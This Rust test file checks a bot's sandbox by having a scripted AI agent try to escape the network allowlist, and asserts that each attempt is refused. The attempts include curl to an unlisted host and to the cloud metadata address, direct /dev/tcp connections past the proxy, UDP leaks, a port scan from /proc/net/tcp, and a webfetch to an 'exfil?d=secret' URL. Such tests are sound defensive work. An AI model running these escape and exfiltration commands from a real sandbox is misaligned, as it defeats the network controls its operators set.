//! The agent's network through the real OpenCode, from the action's image under Docker's default
//! seccomp profile and capabilities, as the runner starts it (docs/security.md#the-agents-network).
//! A scripted agent tries every way out it has: curl through the egress proxy to a listed host and to one
//! nobody listed, a direct connection past the egress proxy, UDP, a name lookup, and OpenCode's own
//! `webfetch`. The same rules on plain processes, and the egress proxy alone, are `agent_network::`.

use std::time::Duration;

use serde_json::json;

use super::scenarios::{main_step, World};
use crate::support::action::{comment_event, explain, Launch, StepResult};
use crate::support::fake_llm::{request_text, Reply};

/// Every tool result the model was sent, in order.
fn tool_results(world: &World) -> Vec<String> {
    let requests = world.llm.requests();
    let Some(last) = requests.last() else {
        return Vec::new();
    };
    last["messages"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|m| m["role"] == "tool")
        .map(|m| request_text(&json!({"messages": [m]})))
        .collect()
}

/// `what`'s line of the script's output (`== what …`).
pub(crate) fn line<'a>(out: &'a str, what: &str) -> &'a str {
    out.lines()
        .find(|l| l.starts_with(&format!("== {what} ")))
        .unwrap_or_else(|| panic!("no '{what}' line in:\n{out}"))
}

/// Milliseconds a line reports (`… ms=N`).
fn ms(line: &str) -> u64 {
    line.rsplit("ms=").next().unwrap().trim().parse().unwrap()
}

/// `bash` with `$(now)` in milliseconds.
const NOW: &str = "now() { echo $(( $(date +%s%N) / 1000000 )); }";

pub async fn the_agent_reaches_the_listed_host_and_nothing_else(launch: Launch) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(7, "Fetch it", "x");
    let listed = crate::support::web::serve("listed-page-body").await;
    let (_other, other) = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let p = l.local_addr().unwrap().port();
        (l, p)
    };
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let mut job = world.job(3300);
    job.owned_by_runner_user(1001);
    job.input("allowed-domains", format!("localhost:{listed}"));
    let script = format!(
        "{NOW}
echo \"== listed $(curl -sS --max-time 10 http://localhost:{listed}/ 2>&1) rc=$?\"
echo \"== unlisted $(curl -sS --max-time 10 http://unlisted.example/ 2>&1) rc=$?\"
echo \"== tunnel $(curl -sS --max-time 10 https://unlisted.example/ 2>&1) rc=$?\"
echo \"== metadata $(curl -sS --max-time 10 http://169.254.169.254/latest/meta-data/ 2>&1) rc=$?\"
t=$(now); r=$( (exec 3<>/dev/tcp/127.0.0.1/{other}) 2>&1 | head -n1); echo \"== direct $r ms=$(( $(now) - t ))\"
t=$(now); r=$(curl -sS --noproxy '*' --max-time 10 http://127.0.0.1:{other}/ 2>&1); echo \"== direct-curl $r ms=$(( $(now) - t ))\"
r=$( (echo leak >/dev/udp/127.0.0.1/{udp_port}) 2>&1 | head -n1); echo \"== udp $r\"
r=$( (echo leak >/dev/udp/127.0.0.1/53) 2>&1 | head -n1); echo \"== dns-udp $r\"
t=$(now); getent hosts example.com >/dev/null 2>&1; echo \"== lookup rc=$? ms=$(( $(now) - t ))\"
echo \"== env $HTTPS_PROXY $NO_PROXY\""
    );
    world.llm.push(Reply::tool(
        "bash",
        json!({"command": script, "description": "reach out"}),
    ));
    world.llm.push(Reply::tool(
        "webfetch",
        json!({"url": format!("http://localhost:{listed}/page"), "format": "text"}),
    ));
    world.llm.push(Reply::tool(
        "webfetch",
        json!({"url": "http://unlisted.example/exfil?d=secret", "format": "text"}),
    ));
    world.llm.push(Reply::text("Reached what I could."));
    job.event(
        "issue_comment",
        &comment_event(7, 1, "@fro-bot fetch the page"),
    );
    let (_job, r) = main_step(job).await;
    let results = tool_results(&world);
    assert_eq!(r.code, 0, "{}", explain(&r));
    assert_eq!(results.len(), 3, "{results:?}\n{}", explain(&r));
    let out = &results[0];
    eprintln!("--- what the agent got ---\n{out}\n---");

    assert!(
        line(out, "listed").contains("listed-page-body rc=0"),
        "{out}"
    );
    assert!(
        line(out, "unlisted")
            .contains("403 fro-bot: host not on allowed-domains: unlisted.example:80"),
        "{out}"
    );
    assert!(
        line(out, "tunnel").contains("CONNECT tunnel failed, response 403"),
        "{out}"
    );
    assert!(
        line(out, "metadata").contains("host not on allowed-domains: 169.254.169.254:80"),
        "{out}"
    );
    // Past the egress proxy: refused at once by the kernel, not a hang.
    for direct in ["direct", "direct-curl"] {
        let l = line(out, direct);
        assert!(
            l.contains("Permission denied") || l.contains("Couldn't connect"),
            "{l}"
        );
        assert!(ms(l) < 3000, "{l}");
    }
    assert!(
        line(out, "udp").contains("Operation not permitted"),
        "{out}"
    );
    assert!(
        line(out, "dns-udp").contains("Operation not permitted"),
        "{out}"
    );
    let lookup = line(out, "lookup");
    assert!(!lookup.contains("rc=0"), "no name resolves: {lookup}");
    assert!(ms(lookup) < 3000, "a lookup fails fast: {lookup}");
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        udp.recv(&mut [0u8; 16]).is_err(),
        "no datagram left the agent"
    );
    // OpenCode's own fetch goes through the egress proxy too.
    assert!(results[1].contains("listed-page-body"), "{}", results[1]);
    assert!(results[2].contains("403"), "{}", results[2]);

    let row = network_row(&r);
    assert!(
        row.starts_with(&format!(
            "allowlist (`localhost:{listed}`): allowed 2 request(s) to `localhost:{listed}` (2); refused 4: "
        )),
        "{row}"
    );
    for refused in [
        "`unlisted.example:80` (2)",
        "`unlisted.example:443`",
        "`169.254.169.254:80`",
    ] {
        assert!(row.contains(refused), "{refused}: {row}");
    }
    let comments = world.github.created_comments();
    assert!(
        comments
            .iter()
            .any(|(_, b)| b.contains("Reached what I could")),
        "{comments:?}"
    );
}

pub(crate) fn network_row(r: &StepResult) -> String {
    r.summary
        .lines()
        .find_map(|l| l.strip_prefix("| Network | "))
        .map(|l| l.trim_end_matches(" |").to_string())
        .unwrap_or_else(|| panic!("no Network row:\n{}", r.summary))
}

pub async fn under_none_the_model_answers_and_the_agents_commands_have_no_network(launch: Launch) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(8, "Offline", "x");
    let mut job = world.job(3400);
    job.owned_by_runner_user(1001);
    job.input("agent-network", "none");
    // A service of the host's, and every listening TCP port the agent can see (on the machine,
    // fro-bot's key proxy included; none in its own container): none connects.
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let host_port = host.local_addr().unwrap().port();
    let script = "ports=$( (echo HOST_PORT; while read -r _ local _ st _; do [ \"$st\" = 0A ] && echo $((16#${local##*:})); done \
        < /proc/net/tcp) | sort -un)
tried=0; ok=0
for p in $ports; do tried=$((tried+1)); if (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; then ok=$((ok+1)); echo \"== open $p\"; fi; done
echo \"== tried $tried ok $ok\"
echo \"== socket $( (exec 3<>/dev/tcp/127.0.0.1/9) 2>&1 | head -n1)\"
echo \"== curl $(curl -sS --max-time 5 http://example.com/ 2>&1) rc=$?\""
        .replace("HOST_PORT", &host_port.to_string());
    world.llm.push(Reply::tool(
        "bash",
        json!({"command": script, "description": "try"}),
    ));
    world.llm.push(Reply::text("Nothing is reachable."));
    job.event("issue_comment", &comment_event(8, 1, "@fro-bot try"));
    let (_job, r) = main_step(job).await;
    assert_eq!(r.code, 0, "{}", explain(&r));
    let results = tool_results(&world);
    let out = results.first().unwrap_or_else(|| panic!("{}", explain(&r)));
    eprintln!("--- what the agent got ---\n{out}\n---");
    let tried = line(out, "tried");
    assert!(tried.ends_with(" ok 0"), "{out}");
    assert!(
        !tried.starts_with("== tried 0 "),
        "it found ports to try: {out}"
    );
    let _ = host;
    assert!(
        line(out, "socket").contains("Operation not permitted"),
        "{out}"
    );
    assert!(!line(out, "curl").contains("rc=0"), "{out}");
    assert!(
        network_row(&r).starts_with(
            "none: the model and fro-bot's tools only; the agent's commands had no network. "
        ),
        "{}",
        network_row(&r)
    );
    assert!(
        world
            .github
            .created_comments()
            .iter()
            .any(|(_, b)| b.contains("Nothing is reachable")),
        "the model still answered: {}",
        explain(&r)
    );
}

pub async fn a_kernel_without_landlock_tcp_rules_fails_the_run_before_the_agent_starts(
    launch: Launch,
) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(9, "Old kernel", "x");
    let mut job = world.job(3500);
    job.owned_by_runner_user(1001);
    job.set("FRO_BOT_LANDLOCK_ABI", "3");
    world.llm.push(Reply::text("Should never be asked."));
    job.event("issue_comment", &comment_event(9, 1, "@fro-bot hello"));
    let (mut job, r) = main_step(job).await;
    assert_ne!(r.code, 0, "the run fails: {}", explain(&r));
    let errors: Vec<&str> = r
        .stdout
        .lines()
        .filter(|l| l.contains("agent-network"))
        .collect();
    assert_eq!(errors.len(), 1, "one line: {errors:?}\n{}", explain(&r));
    assert!(
        errors[0].contains(
            "agent-network: allowlist cannot be enforced: the kernel's Landlock ABI is 3, and its \
             TCP rules need ABI 4 (Linux 6.7 or later)"
        ) && errors[0].contains("`agent-network: open`"),
        "{}",
        errors[0]
    );
    assert!(world.llm.requests().is_empty(), "the agent never started");

    // The fix the line names: `open` runs the agent, unenforced, and the summary says so.
    job.next_run(3501);
    job.input("agent-network", "open");
    job.event(
        "issue_comment",
        &comment_event(9, 2, "@fro-bot hello again"),
    );
    let (_job, r) = main_step(job).await;
    assert_eq!(r.code, 0, "{}", explain(&r));
    assert_eq!(
        network_row(&r),
        "open (`agent-network: open`): nothing was enforced or counted"
    );
    assert_eq!(world.llm.requests().len(), 1);
}
